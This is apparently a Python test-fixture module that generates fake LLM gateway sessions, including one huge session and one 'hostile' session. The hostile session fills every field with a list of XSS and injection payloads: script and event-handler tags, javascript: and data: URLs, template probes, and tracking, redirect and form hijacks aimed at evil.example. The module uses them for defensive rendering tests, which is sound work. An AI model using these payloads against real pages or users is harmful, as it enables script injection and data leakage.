"""Generated sessions in the API's shapes: an ordinary agent's, long ones, and hostile ones."""

import base64
import random
from datetime import UTC, datetime, timedelta
from typing import Any

Json = dict[str, Any]

TITLES = [
    "Refund the duplicate charge on order 88213 and tell the customer",
    "Write a short story about a robot",
    "Migrate the billing tables to partitioned PostgreSQL",
    "hi",
    "Summarise the attached board minutes, then compare with last quarter’s and list what changed",
    "Plan a spring journey through western Europe with two children",
    "Translate the release notes into French, German and Japanese",
    "Why does the nightly export job time out on Mondays?",
]
MODELS = ["claude-sonnet-4-5", "gpt-4o", "gpt-5-codex", "gpt-4o-mini", "gemini-2.5-pro", "mistral-large"]
KEYS = ["support-bot", "ci", "codex", "web", "analyst"]
CLIENTS = ["openai-python", "langchain", "codex", "curl", "litellm"]
SOURCES = ["id", "id", "harness", "content", "response", "none"]

# Each would run, load, leave or break the page where text became markup.
XSS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    '"><iframe src="javascript:parent.hacked=1"></iframe>',
    "[click](javascript:window.hacked=1)",
    "![track](https://evil.example/pixel.png?secret=1)",
    "<a href='data:text/html,<script>hacked=1</script>'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)",
    "</title></textarea></style></script><script>window.hacked=1</script>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form><base href=https://evil.example/>",
    "' onmouseover='window.hacked=1' style='background:url(https://evil.example/y)'",
    "\x1b]8;;https://evil.example/\x07terminal\x1b]8;;\x07 \u202egnp.exe",
    "[a](//evil.example/p) <https://evil.example/auto> ![i](data:image/svg+xml,<svg onload=hacked=1>)",
]


def iso(at: datetime) -> str:
    return at.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def text(words: str) -> Json:
    return {"type": "text", "text": words}


def said(role: str, *pieces: Json) -> Json:
    return {"role": role, "pieces": list(pieces)}


def session(number: int, at: datetime, **fields: Any) -> Json:
    rng = random.Random(number)
    calls = rng.choice([1, 2, 3, 6, 9, 31, 118])
    tokens = calls * rng.randint(300, 18_000)
    made = {
        "id": f"ses_{number:026d}",
        "session_id": f"session-{number}",
        "source": rng.choice(SOURCES),
        "title": TITLES[number % len(TITLES)],
        "project": "default",
        "status": rng.choice(["ok", "ok", "ok", "ok", "errors", "cut"]),
        "calls": calls,
        "turns": max(1, calls // 2),
        "errors": 0,
        "input_tokens": tokens,
        "cached_tokens": int(tokens * rng.choice([0, 0.12, 0.66, 0.93])),
        "output_tokens": tokens // 18,
        "reasoning_tokens": 0,
        "cost": rng.choice([None, 0.0, 0.00042, 0.0121, 0.412, 3.87, 14.2]),
        "models": rng.sample(MODELS, rng.choice([1, 1, 2])),
        "clients": [rng.choice(CLIENTS)],
        "tags": [],
        "first_at": iso(at - timedelta(seconds=rng.randint(2, 4000))),
        "last_at": iso(at),
        "live": 0,
        "unpriced": 0,
        "active_ms": rng.randint(900, 130_000),
        "keys": [rng.choice(KEYS)],
        "users": [],
        "branches": 0,
        "agents": 0,
        "continues": None,
        "emptied_at": None,
    }
    made["errors"] = rng.randint(1, 3) if made["status"] == "errors" else 0
    return made | fields


def call(session_id: str, number: int, turn: int, at: datetime, **fields: Any) -> Json:
    rng = random.Random(number)
    return {
        "id": f"call_{number:026d}",
        "session_id": session_id,
        "source": "id",
        "rule": "metadata.litellm_session_id",
        "parent_id": f"call_{number - 1:026d}" if number % 1000 else None,
        "turn": turn,
        "created_at": iso(at),
        "duration_ms": rng.randint(800, 9000),
        "ttft_ms": rng.randint(200, 700),
        "endpoint": "chat/completions",
        "provider": "anthropic",
        "deployment": "eu-1",
        "model": "claude-sonnet-4-5",
        "upstream_model": "claude-sonnet-4-5-20250929",
        "status": "ok",
        "http_status": 200,
        "stream": True,
        "finish_reason": "stop",
        "input_tokens": 13870,
        "cached_tokens": 11204,
        "output_tokens": 312,
        "reasoning_tokens": 214,
        "estimated": False,
        "cost": 0.0504,
        "error": None,
        "response_id": f"chatcmpl-{number}",
        "client": "openai-python 2.54",
        "user": "",
        "key": "support-bot",
        "agent": "",
        "attempts": [],
        "agent_name": "",
        "agent_parent": "",
        "origin": None,
        "side": False,
        "ambiguous": False,
        "unkept": "",
    } | fields


def added(made: Json, messages: list[Json], output: Json | None, **fields: Any) -> Json:
    return {
        "call": made,
        "resent": 0,
        "recalled": 0,
        "retry": False,
        "system": [],
        "unprompted": False,
        "emptied": False,
        "messages": messages,
        "output": output,
    } | fields


def hostile_session(now: datetime, payloads: list[str] = XSS) -> Json:
    calls = []
    for i, payload in enumerate(payloads):
        tool = {"type": "tool_call", "id": f"t{i}", "name": payload, "arguments": {payload: [payload, {"a": payload}]}}
        result = {"type": "tool_result", "id": f"t{i}", "content": [text(payload)], "error": True}
        pieces = [
            text(payload),
            {"type": "image", "url": payload},
            {"type": "image", "url": "https://evil.example/a.png"},
            {"type": "file", "url": payload, "name": payload},
            {"type": "other", "value": {payload: payload}},
            *({"type": "other", "value": value} for value in hostile_items(payload)),
            {"type": "text", "text": f"<system-reminder>{payload}</system-reminder>"},
            {"type": "file", "url": "data:text/html;base64," + base64.b64encode(payload.encode()).decode()},
        ]
        own = [
            {
                "type": "tool_call",
                "id": f"o{i}{n}",
                "name": "web_search",
                "kind": kind,
                "detail": payload,
                "arguments": given,
            }
            for n, (kind, given) in enumerate(hostile_calls(payload))
        ]
        made = call(
            "x",
            5000 + i,
            i + 1,
            now - timedelta(seconds=len(payloads) - i),
            model=payload,
            upstream_model=payload,
            client=payload,
            user=payload,
            error={"type": payload, "message": payload},
            provider=payload,
            agent=payload,
            finish_reason=payload,
            rule=payload,
            source=payload,
        )
        calls.append(
            added(
                made,
                [said("user", *pieces) | {"name": payload}, said("tool", result)],
                said("assistant", text(payload), {"type": "reasoning", "text": payload}, tool, *own),
                system=[said("system", text(payload))],
            )
        )
    row = session(
        2,
        now,
        id="ses_hostile",
        session_id=payloads[0],
        title=" ".join(payloads[:16]),
        models=payloads[:4],
        clients=payloads[4:6],
        keys=payloads[6:8],
        source=payloads[1],
        tags=payloads[:3],
        users=payloads[:2],
    )
    return {"session": row, "calls": calls}


def hostile_items(payload: str) -> list[Json]:
    page = {"type": "web_search_result", "url": payload, "title": payload, "page_age": payload}
    document = {"type": "document", "title": payload, "source": {"type": "text", "data": payload}}
    return [
        page,
        page | {"url": "https://evil.example/page"},
        {"type": "web_fetch_result", "url": payload, "content": document},
        {"type": payload, "url": payload},
        {"type": "x_error", "error_code": payload},
        {
            "type": "code_execution_result",
            "stdout": payload,
            "stderr": payload,
            "return_code": payload,
            "content": [payload],
        },
        {"filename": payload, "text": payload, "score": payload},
        {"name": payload, "input_schema": payload, "description": payload},
        {"type": "mcp_approval_request", "name": payload, "server_label": payload, "arguments": payload},
        {"type": "mcp_approval_response", "approve": payload, "reason": payload},
        {"type": "item_reference", "id": payload},
        {"type": "compaction", "content": payload},
    ]


def hostile_calls(payload: str) -> list[tuple[str, Any]]:
    return [
        (payload, payload),
        ("custom", payload),
        ("mcp_list_tools", {}),
        (
            "web_search_call",
            {"action": {"url": payload, "queries": [payload], "sources": [{"url": payload}], "pattern": payload}},
        ),
        ("code_interpreter_call", {"code": payload}),
        ("shell_call", {"action": {"commands": [payload, None]}}),
        (
            "computer_call",
            {"action": {"type": payload, payload: payload}, "pending_safety_checks": [{"message": payload}]},
        ),
        ("apply_patch_call", {"operation": {"type": payload, "path": payload, "diff": payload}}),
        ("image_generation_call", {"revised_prompt": payload}),
        ("server_tool_use", None),
    ]


def huge_session(now: datetime, calls: int = 5000, letters: int = 10_000) -> Json:
    """`calls` calls whose answers have `letters` letters each."""
    words = "The *index* is `built` once; then every **query** reads from it, and nothing is scanned twice. "
    made = []
    for i in range(calls):
        body = f"# Step {i}\n\n" + (words * (letters // len(words) + 1))[:letters]
        at = now - timedelta(seconds=(calls - i) * 20)
        made.append(
            added(
                call("huge", 100_000 + i, i // 2 + 1, at),
                [said("user", text(f"Step {i}, please"))] if i % 2 == 0 else [],
                said("assistant", text(body)),
                resent=2 * i,
            )
        )
    row = session(
        3,
        now,
        id="ses_huge",
        session_id="huge",
        title="Index the whole archive, step by step",
        calls=calls,
        turns=calls // 2,
        status="ok",
        errors=0,
    )
    return {"session": row, "calls": made}


def now() -> datetime:
    return datetime.now(UTC)
